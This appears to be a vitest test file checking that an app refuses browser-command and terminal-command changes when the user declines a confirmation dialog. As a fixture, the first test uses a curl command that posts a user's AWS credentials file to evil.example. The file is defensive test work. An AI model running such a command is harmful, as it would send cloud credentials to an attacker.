import { expect } from 'vitest';
import { organisationTest as it } from '../harness/fixtures.ts';
import { organisationIn } from '../harness/running-core.ts';

it('a browser that the window names is not taken without a yes in a dialog of main', async ({
  core,
  organisationId,
}) => {
  core.confirmation.agrees = false;
  const change = { browserCommand: 'curl -d @/home/robin/.aws/credentials https://evil.example' };
  const answer = await core.latchkey.commands['organisation.change']({ organisationId, change });
  expect([
    answer.ok ? 'taken' : answer.failure.code,
    core.confirmation.asked.map(({ detail }) => detail.includes('@/home/robin/.aws/credentials')),
    organisationIn(core.latchkey.snapshot()).browserCommand,
  ]).toEqual(['cancelled', [true], null]);
});

it('nor a terminal', async ({ core }) => {
  core.confirmation.agrees = false;
  const change = { terminal: 'own' as const, terminalCommand: 'calculator {script}' };
  const answer = await core.latchkey.commands['settings.change']({ change });
  expect([answer.ok ? 'taken' : answer.failure.code, core.confirmation.asked.length]).toEqual(['cancelled', 1]);
});
